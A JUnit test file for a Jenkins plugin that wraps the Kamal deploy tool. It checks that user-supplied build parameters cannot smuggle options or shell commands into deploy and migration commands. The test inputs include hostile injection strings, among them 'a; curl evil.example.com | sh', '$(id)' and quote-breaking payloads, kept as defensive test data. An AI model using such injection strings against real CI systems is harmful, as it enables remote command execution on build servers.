package io.jenkins.plugins.kamal.freestyle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import hudson.AbortException;
import hudson.EnvVars;
import io.jenkins.plugins.kamal.step.FieldText;
import io.jenkins.plugins.kamal.step.KamalCommandStep;
import io.jenkins.plugins.kamal.step.KamalDeployStep;
import io.jenkins.plugins.kamal.step.KamalPlanStep;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A user who may only start a build of a freestyle job gives its parameters values, and no further words or options. */
class HostileParameterTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "web --hosts 10.0.0.9",
                "x' --destination production '",
                "x\" -c other.yml \"",
                "a b\tc\nd",
                "\\' -d production",
                "${OTHER}",
                "",
            })
    void aValueIsOneWord(String value) throws Exception {
        assertThat(words("app logs --grep ${VALUE}", value)).isEqualTo(List.of("app", "logs", "--grep", value));
        assertThat(words("server exec \"echo 'tag ${VALUE}'\"", value))
                .isEqualTo(List.of("server", "exec", "echo 'tag " + value + "'"));
        assertThat(words("app logs --grep=$VALUE", value)).isEqualTo(List.of("app", "logs", "--grep=" + value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"--hosts=10.0.0.9", "-dproduction", "-", "--"})
    void aValueIsNoOption(String value) {
        assertThatThrownBy(() -> words("app logs ${VALUE}", value))
                .isInstanceOf(AbortException.class)
                .hasMessageContaining("The word ${VALUE} of the command 'app logs ${VALUE}' begins with '-'");
    }

    @Test
    void whatStandsAfterTheOptionsMayBeginWithADash() throws Exception {
        assertThat(words("app exec -- ls ${VALUE}", "-l")).isEqualTo(List.of("app", "exec", "--", "ls", "-l"));
        assertThat(words("app logs --hosts=${VALUE} -n 5", "-x"))
                .isEqualTo(List.of("app", "logs", "--hosts=-x", "-n", "5"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a; curl evil.example.com | sh",
                "$(id)",
                "`id`",
                "a b",
                "a\nid",
                "'; id; '",
                "\"; id; \"",
                "a\\",
                "-x",
                "*",
                "~root",
                "#",
            })
    void aValueIsOneHarmlessWordOfAMigration(String value) {
        for (String quote : List.of("", "'", "\"")) {
            assertThatThrownBy(() -> migration("bin/migrate " + quote + "${VALUE}" + quote, value))
                    .isInstanceOf(AbortException.class)
                    .hasMessageContaining("The value of the variable VALUE cannot be a part of migrate");
            for (String option : List.of("--migrate=", "--migrate ")) {
                String word = "'bin/migrate ${VALUE}'";
                assertThatThrownBy(() -> words("deploy " + option + word, value))
                        .isInstanceOf(AbortException.class)
                        .hasMessageContaining("cannot be a part of --migrate");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"2024-10-01", "shop:eu/west_1@2.0", "größe"})
    void aMigrationMayHavePlainValues(String value) throws Exception {
        assertThat(migration("bin/migrate --to \"$VALUE\"", value))
                .isEqualTo("--migrate=bin/migrate --to \"" + value + "\"");
    }

    @Test
    void theAuthorMayLeaveTheWholeMigrationToWhoeverStartsTheBuild() throws Exception {
        assertThat(migration("${VALUE}", "bin/rails db:migrate && bin/seed"))
                .isEqualTo("--migrate=bin/rails db:migrate && bin/seed");
    }

    private static String migration(String command, String value) throws AbortException {
        FieldText text = FieldText.expandedBy(new EnvVars("VALUE", value));
        KamalDeployStep deploy = new KamalDeployStep();
        deploy.setMigrate(command);
        KamalPlanStep plan = new KamalPlanStep();
        plan.setMigrate(command);
        try {
            new KamalPlanBuilder(plan).request(text);
        } catch (AbortException e) {
            assertThatThrownBy(() -> new KamalDeployBuilder(deploy).request(text))
                    .isInstanceOf(AbortException.class);
            throw e;
        }
        return new KamalDeployBuilder(deploy)
                .request(text).options().stream()
                        .filter(word -> word.startsWith("--migrate"))
                        .findFirst()
                        .orElse("");
    }

    private static List<String> words(String command, String value) throws AbortException {
        EnvVars environment = new EnvVars("VALUE", value, "OTHER", "other");
        return new KamalCommandBuilder(new KamalCommandStep(command))
                .request(FieldText.expandedBy(environment))
                .command();
    }
}
